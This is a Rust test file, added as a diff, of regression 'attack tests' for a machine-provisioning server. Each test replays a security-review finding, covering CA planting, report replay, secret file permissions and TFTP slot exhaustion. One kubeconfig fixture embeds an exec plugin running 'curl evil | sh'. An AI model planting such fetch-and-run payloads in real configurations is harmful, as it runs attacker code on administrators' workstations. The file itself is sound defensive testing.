@@ -1,0 +1,222 @@
+//! Standing attack tests: each reproduces a finding of the security review (issue 13)
+//! against the real binary and fails if the fix is undone. Add new findings here, one
+//! test each, named after what the attacker tries.
+
+mod common;
+
+use base64::Engine as _;
+use common::*;
+use std::path::Path;
+
+fn cluster_fixture() -> String {
+    std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/clusters.yaml")).unwrap()
+}
+
+
+fn report_body(ca: &str, kubeconfig: &str) -> String {
+    let b64 = base64::engine::general_purpose::STANDARD.encode(kubeconfig);
+    format!(r#"{{"state":"installed","ca_hash":"{ca}","kubeconfig":"{b64}"}}"#)
+}
+
+/// Provisions `name`, plays its boot and config fetch, and returns its credential.
+fn install_credential(srv: &Server, name: &str, mac: &str) -> String {
+    assert_eq!(srv.admin("POST", &format!("/v1/machines/{name}/provision")).0, 200);
+    assert_eq!(srv.get(&format!("/v1/boot/ipxe?mac={mac}&arch=x86_64")).0, 200);
+    let (code, ign) = srv.get(&format!("/v1/machines/{name}/ignition"));
+    assert_eq!(code, 200, "{ign}");
+    credential_from_ignition(&ign)
+}
+
+fn lab() -> (tempfile::TempDir, Server) {
+    let d = workdir(&cluster_fixture());
+    let srv = Server::start(d.path());
+    (d, srv)
+}
+
+fn s2_join(srv: &Server, cred: &str) -> (u16, String) {
+    req("GET", &format!("{}/v1/machines/s2/join", srv.url), Some(cred), None)
+}
+
+/// Finding 2: a report carrying a CA hash was recorded before the state check, so a
+/// credential from a retired machine could still plant a CA every joiner would pin.
+#[test]
+fn a_retired_machines_credential_cannot_plant_a_cluster_ca() {
+    let (_d, srv) = lab();
+    let cred = install_credential(&srv, "s1", "52:54:00:00:01:01");
+    assert_eq!(srv.admin("POST", "/v1/machines/s1/retire").0, 200);
+    let (code, body) = srv.post("/v1/machines/s1/report", Some(&cred), &report_body(&"e".repeat(64), K3S_YAML));
+    assert!(code == 401 || code == 409, "{code} {body}");
+    let s2 = install_credential(&srv, "s2", "52:54:00:00:01:02");
+    assert_eq!(s2_join(&srv, &s2).0, 503, "no CA was recorded");
+}
+
+/// Finding 2: a later bootstrap report (a reinstall, or a replay) replaced the CA hash
+/// joiners pin. The first one now stands until `cluster reset`.
+#[test]
+fn a_second_bootstrap_report_cannot_replace_the_pinned_ca() {
+    let (_d, srv) = lab();
+    let first = "a".repeat(64);
+    let cred = install_credential(&srv, "s1", "52:54:00:00:01:01");
+    assert_eq!(srv.post("/v1/machines/s1/report", Some(&cred), &report_body(&first, K3S_YAML)).0, 200);
+    // Replaying the accepted report: refused, changes nothing.
+    assert_eq!(srv.post("/v1/machines/s1/report", Some(&cred), &report_body(&"b".repeat(64), K3S_YAML)).0, 401);
+    // A reinstall of the bootstrap server reporting another CA.
+    let again = install_credential(&srv, "s1", "52:54:00:00:01:01");
+    let (code, body) = srv.post("/v1/machines/s1/report", Some(&again), &report_body(&"c".repeat(64), K3S_YAML));
+    assert_eq!(code, 400, "{body}");
+    assert!(body.contains("already has a CA hash"), "{body}");
+    let s2 = install_credential(&srv, "s2", "52:54:00:00:01:02");
+    let (code, join) = s2_join(&srv, &s2);
+    assert_eq!(code, 200, "{join}");
+    assert!(join.starts_with(&format!("K3S_TOKEN=K10{first}::")), "{join}");
+}
+
+/// Finding 2: the kubeconfig was stored verbatim, so an `exec` plugin planted by a node
+/// ran on the admin's workstation at the first `kubectl` with `cluster kubeconfig`.
+#[test]
+fn a_kubeconfig_that_would_run_code_on_the_admins_machine_is_refused() {
+    let (_d, srv) = lab();
+    let cred = install_credential(&srv, "s1", "52:54:00:00:01:01");
+    let evil = K3S_YAML.replace(
+        "    client-key-data: S0VZ\n",
+        "    client-key-data: S0VZ\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, \"curl evil | sh\"]\n",
+    );
+    let (code, body) = srv.post("/v1/machines/s1/report", Some(&cred), &report_body(&"a".repeat(64), &evil));
+    assert_eq!(code, 400, "{body}");
+    assert!(body.contains("`exec`"), "{body}");
+    assert_eq!(srv.admin("GET", "/v1/clusters/lab/kubeconfig").0, 404, "nothing was stored");
+    assert_eq!(srv.machine("s1")["state"], "installing", "a refused handover is a refused report");
+}
+
+/// Finding 2: `report.sh` took a 401 for success, so a takeover (someone else used the
+/// credential first) was silent. It now fails and says why.
+#[test]
+fn report_script_fails_loudly_when_its_credential_was_already_used() {
+    let (d, srv) = lab();
+    let cred = install_credential(&srv, "a1", "52:54:00:00:01:04");
+    // The attacker reports first with the stolen credential.
+    assert_eq!(srv.post("/v1/machines/a1/report", Some(&cred), r#"{"state":"installed"}"#).0, 200);
+    let root = d.path().join("root");
+    std::fs::create_dir_all(root.join("etc/bootplane")).unwrap();
+    std::fs::write(root.join("etc/bootplane/machine.env"), format!("BOOTPLANE_URL={}\nBOOTPLANE_MACHINE=a1\nBOOTPLANE_CREDENTIAL={cred}\n", srv.url)).unwrap();
+    let script = include_str!("../../bootplane-core/src/scripts/report.sh");
+    let o = run_under_root(&root, script, &["/etc/bootplane/", "/var/lib/bootplane", "/run/bootplane"], None);
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(!o.status.success(), "must fail: {err}");
+    assert!(err.contains("refused this machine's report (HTTP 401)"), "{err}");
+    assert!(!root.join("var/lib/bootplane/reported").exists(), "no stamp: the unit runs again next boot");
+}
+
+/// Finding 2: retiring a machine, or its attempts running out, left its credential live.
+#[test]
+fn credentials_die_with_retired_and_failed_machines() {
+    let (_d, srv) = lab();
+    let cred = install_credential(&srv, "a1", "52:54:00:00:01:04");
+    assert_eq!(srv.admin("POST", "/v1/machines/a1/retire").0, 200);
+    assert_eq!(req("GET", &format!("{}/v1/machines/a1/join", srv.url), Some(&cred), None).0, 401);
+    assert_eq!(srv.post("/v1/machines/a1/report", Some(&cred), r#"{"state":"failed"}"#).0, 401);
+    // Attempts exhausted (the fixture allows 3).
+    let cred = install_credential(&srv, "a2", "52:54:00:00:01:05");
+    for _ in 0..4 {
+        srv.get("/v1/boot/ipxe?mac=52:54:00:00:01:05&arch=x86_64");
+    }
+    assert_eq!(srv.machine("a2")["state"], "failed");
+    assert_eq!(srv.post("/v1/machines/a2/report", Some(&cred), r#"{"state":"installed"}"#).0, 401);
+}
+
+fn mode(p: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(p).unwrap_or_else(|e| panic!("{}: {e}", p.display())).permissions().mode() & 0o777
+}
+
+/// Finding 3: the data directory was 0755 and the database 0644, with the credential
+/// HMAC key in it in clear: any local user could compute every machine's credential.
+/// Finding 12: the admin token itself was printed to stderr (the journal).
+#[test]
+fn local_users_can_read_neither_the_store_nor_its_secrets() {
+    let d = workdir(CONFIG);
+    let srv = Server::start_without_token(d.path());
+    // The applied config was written, so the WAL exists.
+    let data = d.path().join("data");
+    assert_eq!(mode(&data), 0o700);
+    for f in ["bootplane.db", "bootplane.db-wal", "bootplane.db-shm", "secret.key", "admin-token"] {
+        assert_eq!(mode(&data.join(f)), 0o600, "{f}");
+    }
+    for f in ["bootplane.db", "bootplane.db-wal"] {
+        let bytes = std::fs::read(data.join(f)).unwrap();
+        assert!(!bytes.windows(17).any(|w| w == b"credential_secret"), "{f} holds a credential key");
+    }
+    let token = std::fs::read_to_string(data.join("admin-token")).unwrap();
+    let log = srv.stop().join("\n");
+    assert!(!log.contains(token.trim()), "the admin token was printed:\n{log}");
+    assert!(log.contains("admin-token"), "the log says where the token is:\n{log}");
+}
+
+/// Finding 3: a world-readable secret file is reported at start.
+#[test]
+fn a_world_readable_secret_key_is_warned_about() {
+    use std::os::unix::fs::PermissionsExt;
+    let d = workdir(CONFIG);
+    Server::start_without_token(d.path()).stop();
+    std::fs::set_permissions(d.path().join("data/secret.key"), std::fs::Permissions::from_mode(0o644)).unwrap();
+    let log = Server::start_without_token(d.path()).stop().join("\n");
+    assert!(log.contains("secret.key is readable by group or others (mode 0644)"), "{log}");
+}
+
+/// Finding 12: `cluster kubeconfig -o FILE` kept an existing file's mode, so an old
+/// world-readable file received the admin's client key.
+#[test]
+fn kubeconfig_output_is_private_even_over_an_open_file() {
+    use std::os::unix::fs::PermissionsExt;
+    let (d, srv) = lab();
+    let cred = install_credential(&srv, "s1", "52:54:00:00:01:01");
+    assert_eq!(srv.post("/v1/machines/s1/report", Some(&cred), &report_body(&"a".repeat(64), K3S_YAML)).0, 200);
+    let out = d.path().join("lab.kubeconfig");
+    std::fs::write(&out, "old").unwrap();
+    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let o = bootplane(d.path()).args(["cluster", "kubeconfig", "lab", "-o"]).arg(&out).args(["--server", &srv.url]).output().unwrap();
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    assert_eq!(mode(&out), 0o600);
+    let text = std::fs::read_to_string(&out).unwrap();
+    assert!(text.contains("server: https://198.18.0.100:6443") && text.contains("client-key-data: S0VZ"), "{text}");
+}
+
+/// A TFTP read request as bytes (RFC 1350 + options).
+fn rrq(file: &str, options: &[(&str, &str)]) -> Vec<u8> {
+    let mut b = vec![0, 1];
+    for part in [file, "octet"].into_iter().chain(options.iter().flat_map(|(k, v)| [*k, *v])) {
+        b.extend_from_slice(part.as_bytes());
+        b.push(0);
+    }
+    b
+}
+
+/// Finding 9: a client-chosen `timeout` of 255 s with doubling retries held a transfer
+/// slot and a socket for hours, and one host could take all 1024 slots. The long timeout
+/// is now declined (left out of the OACK) and one address gets a few slots only.
+#[test]
+fn tftp_clients_cannot_hold_transfer_slots_for_hours() {
+    let d = workdir(&CONFIG.replace("server:\n", "tftp:\n  enabled: true\n  listen: 127.0.0.1:0\nserver:\n"));
+    let s = Server::start(d.path());
+    let t = s.tftp.expect("TFTP address in the log");
+    let timeout = std::time::Duration::from_secs(5);
+    let mut held = Vec::new();
+    let mut answers = Vec::new();
+    for _ in 0..12 {
+        let sock = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+        sock.set_read_timeout(Some(timeout)).unwrap();
+        sock.send_to(&rrq("undionly.kpxe", &[("timeout", "255"), ("tsize", "0")]), t).unwrap();
+        let mut buf = [0u8; 2048];
+        let n = sock.recv(&mut buf).expect("an answer");
+        answers.push(buf[..n].to_vec());
+        held.push(sock); // never ACKed: the transfer stays open on the server
+    }
+    let oacks: Vec<_> = answers.iter().filter(|a| a[..2] == [0, 6]).collect();
+    let busy: Vec<_> = answers.iter().filter(|a| a[..2] == [0, 5] && String::from_utf8_lossy(a).contains("busy")).collect();
+    assert_eq!(oacks.len(), 8, "8 transfers per client address");
+    assert_eq!(busy.len(), 4, "the rest are told to retry later");
+    for o in oacks {
+        let text = String::from_utf8_lossy(o);
+        assert!(text.contains("tsize") && !text.contains("timeout"), "a 255 s timeout must be declined: {text:?}");
+    }
+}
